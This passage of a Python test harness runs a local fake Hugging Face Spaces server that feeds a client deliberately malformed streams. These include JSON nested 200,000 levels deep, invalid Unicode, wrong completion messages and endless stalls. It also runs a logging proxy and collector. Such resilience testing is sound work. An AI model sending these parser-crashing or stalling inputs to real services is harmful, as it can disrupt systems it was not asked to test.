        ]) * 250  # 1,000 events
        await preamble(out, job)
        reply = echo(job)
        parts = tokens(reply)
        for i, piece in enumerate(parts):
            for _ in range(100 // len(parts) + 1):
                await out.chunk(noise)
            await out.event(generating_full(job, piece) if i == 0 else generating_ops(job, [append_op(job, piece)]))
        await finish_reply(out, job, reply)


@scenario
class DeepJSON(Space):
    name = "deep-json"
    doc = 'one event nested 200,000 lists deep (a parser must refuse it, not recurse), then the normal reply'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.chunk(b'data: {"msg": "process_generating", "output": {"data": ' + b"[" * 200_000 + b"]" * 200_000 + b"}}\n\n")
        await stream_reply(out, job, echo(job))
        await finish_reply(out, job, echo(job))


@scenario
class BadUnicode(Space):
    name = "bad-unicode"
    doc = 'reply tokens with a lone surrogate escape (\\ud800), a raw invalid UTF-8 byte, NUL and DEL'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event(generating_full(job, "Ech"))
        eid = job["event_id"]
        for piece in [b"o\\ud800", b"\xff\xfe", b"\\u0000", b"\x7f", b"\\udfff\\ud83d"]:
            await out.chunk(b'data: {"msg":"process_generating","event_id":"' + eid.encode() +
                            b'","output":{"data":[[],[["append",[0,1,"text"],"' + piece + b'"]],[]]},"success":true}\n\n')
        await out.event({"msg": "process_completed", "event_id": eid, "output": {"data": ["", chatbot(job, "Echo"), ""]}, "success": True})
        await out.end()


# --- 8. wrong outcomes -------------------------------------------------------------------------

@scenario
class EmptyData(Space):
    name = "empty-data"
    doc = 'process_completed with output {"data": []}'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event({"msg": "process_completed", "event_id": job["event_id"], "output": {"data": []}, "success": True})
        await out.end()


@scenario
class ConfigNotJSON(Space):
    name = "config-not-json"
    doc = '/config answers 200 text/plain "hello"; everything else is a normal Space'

    async def serve_config(self, req, out):
        await out.respond(200, "hello", content_type="text/plain; charset=utf-8")


@scenario
class SuccessNoOutput(Space):
    name = "success-no-output"
    doc = 'process_completed, success true, no output member'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event({"msg": "process_completed", "event_id": job["event_id"], "success": True})
        await out.end()


@scenario
class SuccessString(Space):
    name = "success-string"
    doc = 'process_completed with "success": "false" (a string) and output.error'

    async def stream(self, out, job):
        await preamble(out, job)
        await out.event({"msg": "process_completed", "event_id": job["event_id"], "output": {"error": "the model failed"},
                         "success": "false"})
        await out.end()


@scenario
class ConfigStall(Space):
    name = "config-stall"
    doc = '/config is accepted and never answered'

    async def serve_config(self, req, out):
        await out.until_client_leaves()


# --- servers -----------------------------------------------------------------------------------

async def close(writer):
    try:
        writer.close()
    except Exception:
        pass


def scenario_handler(space):
    async def serve(reader, writer):
        out = Out(reader, writer)
        try:
            req = await asyncio.wait_for(read_request(reader), timeout=30)
            record("scenario", req.method, req.target, req.header_list, host=req.headers.get("host"), scenario=space.name, body=req.body)
            await space.handle(req, out)
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, ConnectionError, ValueError):
            pass
        finally:
            await close(writer)
    return serve


async def debug(req, out):
    if req.path == "/debug/requests":
        since = int(req.query.get("since", "0") or 0)
        await out.respond(200, [entry for entry in LOG if entry["seq"] > since])
    elif req.path == "/debug/reset":
        LOG.clear()
        await out.respond(200, {"seq": SEQ[0]})
    else:
        await out.respond(404, {"detail": "Not Found"})


async def serve_collector(reader, writer):
    out = Out(reader, writer)
    try:
        req = await asyncio.wait_for(read_request(reader), timeout=30)
        if req.path.startswith("/debug/"):
            await debug(req, out)
        else:
            record("collector", req.method, req.target, req.header_list, host=req.headers.get("host"), body=req.body)
            await out.respond(200, {})
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, ConnectionError, ValueError):
        pass
    finally:
        await close(writer)


def space_for_host(host):
    """The scenario named by `<name>.hf.space`, else None (a stray host)."""
    host = host.lower().rstrip(".")
    if host.endswith(".hf.space"):
        label = host[:-len(".hf.space")]
        if "." not in label:
            return SCENARIOS.get(label)
    return None


async def serve_proxied(host, req, out):
    space = space_for_host(host)
    if space is None:
        record("stray", req.method, req.target, req.header_list, host=host, body=req.body)
        await out.respond(200, {})
    else:
        record("proxy", req.method, req.target, req.header_list, host=host, scenario=space.name, body=req.body)
        await space.handle(req, out)


async def serve_proxy(reader, writer):
    out = Out(reader, writer)
    try:
        req = await asyncio.wait_for(read_request(reader), timeout=30)
        if req.method == "CONNECT":
            host = req.target.rsplit(":", 1)[0].strip("[]")
            record("connect" if space_for_host(host) else "stray", req.method, req.target, req.header_list, host=host)
            await out.raw(b"HTTP/1.1 200 Connection established\r\n\r\n")
            inner = await asyncio.wait_for(read_request(reader), timeout=30)
            await serve_proxied(host, inner, out)
        else:
            parts = urllib.parse.urlsplit(req.target)
            host = parts.hostname or req.headers.get("host", "").rsplit(":", 1)[0]
            inner = Request(req.method, (parts.path or "/") + ("?" + parts.query if parts.query else ""), req.header_list, req.body)
            inner.target = req.target
            await serve_proxied(host, inner, out)
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, ConnectionError, ValueError):
        pass
    finally:
        await close(writer)


async def listen(handler):
    server = await asyncio.start_server(handler, "127.0.0.1", 0, limit=1 << 20)
    return server, server.sockets[0].getsockname()[1]


async def main():
    servers = []
    collector, CTX["collector"] = await listen(serve_collector)
    proxy, CTX["proxy"] = await listen(serve_proxy)
    servers += [collector, proxy]
    for name, space in SCENARIOS.items():
        server, port = await listen(scenario_handler(space))
        servers.append(server)
        CTX["scenarios"][name] = port
    print(json.dumps({
        "scenarios": {name: f"http://127.0.0.1:{port}" for name, port in CTX["scenarios"].items()},
        "collector": f"http://127.0.0.1:{CTX['collector']}",
        "proxy": f"http://127.0.0.1:{CTX['proxy']}",
    }), flush=True)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    try:
        await asyncio.wait_for(stop.wait(), timeout=MAX_LIFETIME)
    except asyncio.TimeoutError:
        print("hostile_server: max lifetime reached", file=sys.stderr)
    for server in servers:
        server.close()
    # Endless streams are still being written: leave without cancelling them one by one.
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    if sys.argv[1:] == ["--list"]:
        for name, space in SCENARIOS.items():
            print(f"{name:22} {space.doc}")
        sys.exit(0)
    asyncio.run(main())
